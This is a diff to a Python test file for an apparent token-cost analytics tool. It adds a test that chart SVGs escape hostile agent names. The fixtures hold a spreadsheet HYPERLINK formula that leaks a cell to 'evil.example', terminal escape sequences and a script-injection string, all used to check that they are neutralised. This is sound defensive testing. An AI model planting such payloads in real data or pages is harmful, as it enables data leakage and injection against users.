@@ -9,15 +9,18 @@ import io
 import json
 from datetime import UTC, datetime
 from decimal import Decimal
+from pathlib import Path
 
 import httpx
 import pytest
 
 from conftest import MINIMAL_CONFIG, Gateway
+from tokometer.analytics import report
 from tokometer.analytics.cells import spreadsheet_safe
+from tokometer.analytics.charts import report_chart, svg
 from tokometer.cli import main
 from tokometer.events import Event, new_event_id, rfc3339
-from tokometer.ledger import SQLiteLedger
+from tokometer.ledger import SQLiteLedger, open_db
 from tokometer.ledger.signer import load_signer
 
 TENANT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -31,6 +34,8 @@ FORMULAS = {"tenant": TENANT, "app": APP, "agent": AGENT, "task": TASK, "end_use
 TERMINAL = "\x1b[31mred\x1b]0;pwned\x07\u202eevil"  # colour, window title, bell, RTL override
 CLEAR = "job\x1b[2J\x1b[H"  # clears the screen
 MATH = ["$\\frac{a}{b}$", "$\\nosuchcommand$", "$x"]
+MARKUP = "</svg><script>alert(1)</script>"
+HIDDEN = "_nolegend_"  # matplotlib leaves a label starting with "_" out of a legend
 
 
 def event(**fields) -> Event:
@@ -52,6 +57,8 @@ HOSTILE = [
           output_tokens=-100, cost=Decimal("-0.0042"), usage_source="correction"),
     event(agent=MATH[1], model=MATH[1]),
     event(agent=MATH[2], model=MATH[2]),
+    event(agent=MARKUP),
+    event(agent=HIDDEN),
 ]
 
 
@@ -154,7 +161,7 @@ def test_chart_labels_are_never_math_text(config, capsys, tmp_path, suffix):
     run(capsys, "report", "--config", config, "--by", "agent", "--chart", str(report_chart))
     run(capsys, "rankings", "--config", config, "--by", "model", "--chart", str(rankings_chart))
     if suffix == ".svg":  # SVG keeps text as text: each label is there as it was written
-        assert all(agent in report_chart.read_text() for agent in MATH)
+        assert all(agent in report_chart.read_text() for agent in [*MATH, HIDDEN])
         models = rankings_chart.read_text()
         assert MATH[1] in models and MATH[2] in models
         assert "\\x1b[31mred\\x1b]0;pwned\\x07\\u202eevil" in models  # escaped, not obeyed
@@ -175,3 +182,15 @@ def test_attribution_from_a_real_gateway_is_neutralised_too(gateway: Gateway, ca
     assert (row["tenant"], row["app"], row["agent"], row["task"]) == (
         "'" + TENANT, "'" + APP, "'" + AGENT, "'" + TASK)
     assert Decimal(row["cost"]) == Decimal(r.headers["x-tokometer-cost"])
+
+
+def test_a_chart_in_a_page_carries_no_markup_from_a_name(config):
+    """The dashboard puts charts' SVG in its pages as it is: names in it must stay text."""
+    store = Path(config).with_name("t.db")
+    conn = open_db(store)
+    try:
+        drawn = svg(report_chart, report(conn, ["agent"]), ["agent"], None)
+    finally:
+        conn.close()
+    assert "<script" not in drawn and "&lt;/svg&gt;&lt;script&gt;alert(1)" in drawn
+    assert drawn.count("<svg") == 1 and drawn.rstrip().endswith("</svg>")
